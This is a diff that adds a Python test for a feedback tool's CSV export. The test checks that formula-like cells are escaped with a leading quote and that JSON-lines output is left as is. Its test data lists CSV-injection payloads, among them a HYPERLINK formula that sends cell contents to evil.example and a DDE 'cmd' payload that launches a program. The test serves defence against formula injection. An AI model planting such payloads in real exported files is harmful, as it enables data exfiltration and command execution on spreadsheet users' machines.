@@ -201,3 +201,45 @@ def test_export_and_stats_cli(tmp_path: Path) -> None:
         text=True,
     )
     assert missing.returncode == 2 and "not found" in missing.stderr
+
+
+def test_csv_export_escapes_formulas(tmp_path: Path) -> None:
+    """CSV cells that a spreadsheet would run as a formula start with a quote; JSON lines are unchanged."""
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    hostile += ["\t=1+1", "\r=1+1"]
+
+    async def fill() -> None:
+        store = FeedbackStore(tmp_path / "fb.sqlite3")
+        await store.open()
+        for i, text in enumerate([*hostile, "a plain question"]):
+            r = CragResult(question=text, language="en", branch=Branch.CORRECT, answer="ok")
+            await store.record_answer(r, "c", f"u{i}", "emulator")
+            await store.record_feedback(r.id, "up", "c", f"u{i}", "emulator", comment=text)
+        await store.close()
+
+    asyncio.run(fill())
+    db = str(tmp_path / "fb.sqlite3")
+    csv_file = tmp_path / "f.csv"
+    out = subprocess.run(
+        [sys.executable, "-m", "crag.feedback", "--db", db, "export", "--out", str(csv_file)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert out.returncode == 0
+    import csv as csvmod
+
+    with csv_file.open(encoding="utf-8", newline="") as f:  # keeps the carriage return inside a cell
+        rows = list(csvmod.DictReader(f))
+    assert [r["question"] for r in rows] == [*("'" + t for t in hostile), "a plain question"]
+    assert [r["comment"] for r in rows] == [r["question"] for r in rows]
+    assert rows[0]["id"] == "1"  # numbers and ordinary text are left alone
+    jsonl = subprocess.run(
+        [sys.executable, "-m", "crag.feedback", "--db", db, "export", "--format", "jsonl"],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert [json.loads(x)["comment"] for x in jsonl.stdout.splitlines()] == [*hostile, "a plain question"]
